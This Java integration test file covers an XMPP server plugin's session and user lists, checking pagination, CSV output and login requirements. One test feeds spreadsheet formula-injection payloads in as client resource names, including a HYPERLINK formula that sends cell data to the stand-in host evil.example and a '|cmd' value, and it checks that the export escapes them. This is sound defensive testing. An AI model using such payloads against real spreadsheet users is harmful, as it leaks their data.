package io.github.sessionstate.it.api;

import static io.github.sessionstate.it.support.SessionTable.text;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.google.gson.JsonObject;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;

import io.github.sessionstate.it.host.AdminClient;
import io.github.sessionstate.it.host.HostOptions;
import io.github.sessionstate.it.host.PluginPaths;
import io.github.sessionstate.it.support.Await;
import io.github.sessionstate.it.support.SharedHostTest;
import io.github.sessionstate.it.xmpp.RawClient;

/** Lists as programs read them: page by page along the link, and as CSV. */
class ListsIT extends SharedHostTest {
    private static final Duration LISTED = Duration.ofSeconds(10);
    private static final int STAYING = 300;
    private static final int COMING_AND_GOING = 40;
    private static final Pattern NEXT = Pattern.compile("<(/[!-;=?-~]+)>; rel=\"next\"");

    private AdminClient admin;

    @BeforeEach
    void logIn() throws IOException {
        admin = host.adminLogin();
    }

    private HttpResponse<String> get(String path, String accept) throws IOException {
        HttpResponse<String> answer = admin.send(admin.request(path).header("Accept", accept).GET());
        assertThat(answer.statusCode()).as(answer::body).isEqualTo(200);
        return answer;
    }

    /** The address of the next page as it stands in the header; null if there is none. */
    private static String next(HttpResponse<String> page) {
        String link = page.headers().firstValue("Link").orElse(null);
        if (link == null) {
            return null;
        }
        Matcher next = NEXT.matcher(link);
        assertThat(next.matches()).as(link).isTrue();
        return next.group(1);
    }

    private List<NamedCsvRecord> csv(String path) throws IOException {
        HttpResponse<String> answer = get(path, "text/csv");
        assertThat(answer.headers().firstValue("Content-Type").orElseThrow().toLowerCase(Locale.ROOT))
                .isEqualTo("text/csv; charset=utf-8; header=present");
        assertThat(answer.headers().allValues("Vary")).anyMatch(value -> value.contains("Accept"));
        return CsvReader.builder().ofNamedCsvRecord(answer.body()).stream().toList();
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    /** In orders that are read from an index, by a look at all, and of what does not change meanwhile. */
    @ParameterizedTest
    @ValueSource(strings = {"", "&sort=full_jid", "&sort=-since", "&q=connected:yes OR notopen:yes", "&sort=-port"})
    void theLinkLeadsThroughAllWhileOthersComeAndGo(String parameters) throws Exception {
        List<RawClient> clients = new ArrayList<>();
        try {
            for (int i = 0; i < STAYING; i++) {
                clients.add(host.connect());
            }
            for (int i = 0; i < 5; i++) {
                RawClient john = host.connect();
                john.login("john", HostOptions.PASSWORD, "paged-" + i);
                clients.add(john);
            }
            Set<String> staying = new HashSet<>(table.ids(clients));
            List<RawClient> others = new ArrayList<>();
            for (int i = 0; i < COMING_AND_GOING; i++) {
                RawClient other = host.connect();
                others.add(other);
                clients.add(other);
            }
            List<String> seen = new ArrayList<>();
            String next = PluginPaths.SESSIONS + "?fields=id&limit=20" + parameters.replace(" ", "%20");
            int pages = 0;
            while (next != null) {
                HttpResponse<String> page = get(next, "text/csv");
                page.body().lines().skip(1).forEach(seen::add);
                next = next(page);
                assertThat(++pages).as("pages").isLessThan(100);
                if (!others.isEmpty()) {
                    others.remove(0).close();
                    others.remove(others.size() - 1).close();
                    clients.add(host.connect());
                }
            }
            assertThat(seen).doesNotHaveDuplicates().containsAll(staying);
            assertThat(pages).isGreaterThan(STAYING / 20);
        } finally {
            for (RawClient client : clients) {
                client.close();
            }
        }
    }

    @Test
    void whatClientsChooseIsNoFormulaInCsv() throws Exception {
        Map<String, String> cells = new TreeMap<>(Map.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+49,\"a\"", "'+49,\"a\"", "-2+3|cmd", "'-2+3|cmd",
                "@SUM(1;2)", "'@SUM(1;2)", "plain", "plain", "'quoted'", "'quoted'"));
        List<RawClient> clients = new ArrayList<>();
        try {
            for (String resource : cells.keySet()) {
                RawClient john = host.connect();
                clients.add(john);
                john.login("john", HostOptions.PASSWORD, resource);
                john.presence("<priority>-5</priority><status>=1+1,\n\"two\"</status>");
                john.sync();
            }
            List<NamedCsvRecord> rows = csv(PluginPaths.SESSIONS + "?fields=resource,priority,status,conn,since&q="
                    + encode("username:john connected:yes"));

            assertThat(rows).extracting(row -> row.getField("resource"))
                    .containsExactlyInAnyOrderElementsOf(cells.values());
            assertThat(rows).allSatisfy(row -> {
                assertThat(row.getHeader()).containsExactly("id", "resource", "priority", "status", "conn", "since");
                assertThat(row.getField("priority")).isEqualTo("-5");
                assertThat(row.getField("status")).isEqualTo("'=1+1,\n\"two\"");
                assertThat(row.getField("conn")).startsWith("{\"transport\":\"tcp\"");
                assertThat(row.getField("since")).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z");
            });
            for (RawClient client : clients) {
                client.closeStream();
            }
            String path = PluginPaths.ENDED + "?fields=resource&q=" + encode("resource:=*");
            // Some hosts answer the client before they have ended its session.
            Await.until("its end is listed", LISTED, () -> !csv(path).isEmpty());
            assertThat(csv(path)).isNotEmpty().allSatisfy(row -> {
                assertThat(row.getField("resource")).startsWith("'=HYPERLINK");
                assertThat(row.getField("ended_cause")).isEqualTo("closed_by_client");
            });
        } finally {
            for (RawClient client : clients) {
                client.close();
            }
        }
    }

    @Test
    void usersAreThereWithTheirSessions() throws Exception {
        try (RawClient phone = host.connect(); RawClient desk = host.connect(); RawClient jane = host.connect();
                RawClient juan = host.unbound("juan")) {
            phone.login("john", HostOptions.PASSWORD, "phone");
            phone.presence("<priority>7</priority>");
            phone.sync();
            desk.login("john", HostOptions.PASSWORD, "desk");
            desk.presence("<priority>1</priority>");
            desk.sync();
            jane.login("jane", HostOptions.PASSWORD, "phone");
            assertThat(juan.localPort()).isPositive();

            JsonObject users = admin.getJson(PluginPaths.USERS);
            assertThat(users.get("total").getAsInt()).isEqualTo(2);
            JsonObject john = users.getAsJsonArray("users").get(1).getAsJsonObject();
            assertThat(text(john, "bare_jid")).isEqualTo("john@example.org");
            assertThat(john.get("connected").getAsInt()).isEqualTo(2);
            assertThat(john.get("available").getAsInt()).isEqualTo(2);
            assertThat(john.getAsJsonArray("top_resources")).hasToString("[\"john@example.org/phone\"]");
            assertThat(john.getAsJsonArray("sessions").asList()).extracting(session ->
                    text(session.getAsJsonObject(), "id")).isEqualTo(table.ids(List.of(phone, desk)));

            HttpResponse<String> first = get(PluginPaths.USERS + "?limit=1&sort=-bare_jid&fields=username", "text/csv");
            assertThat(first.body()).isEqualTo("bare_jid,username\r\njohn@example.org,john\r\n");
            HttpResponse<String> second = get(next(first), "text/csv");
            assertThat(second.body()).isEqualTo("bare_jid,username\r\njane@example.org,jane\r\n");
            assertThat(next(second)).isNull();
            assertThat(csv(PluginPaths.USERS + "?q=resource:desk")).extracting(row -> row.getField("bare_jid"))
                    .containsExactly("john@example.org");
        }
    }

    @Test
    void columnsNeedALoginAsAllElse() throws Exception {
        assertThat(admin.getJson(PluginPaths.COLUMNS).getAsJsonArray("columns").get(0).getAsJsonObject())
                .hasToString("{\"key\":\"id\",\"type\":\"string\",\"asked\":\"text\",\"choices\":[],\"sortable\":true,"
                        + "\"groupable\":false,\"by_default\":true,\"shown\":false}");
        for (String path : List.of(PluginPaths.COLUMNS, PluginPaths.USERS)) {
            assertThat(host.console().get(path).statusCode()).as(path).isEqualTo(401);
        }
    }
}
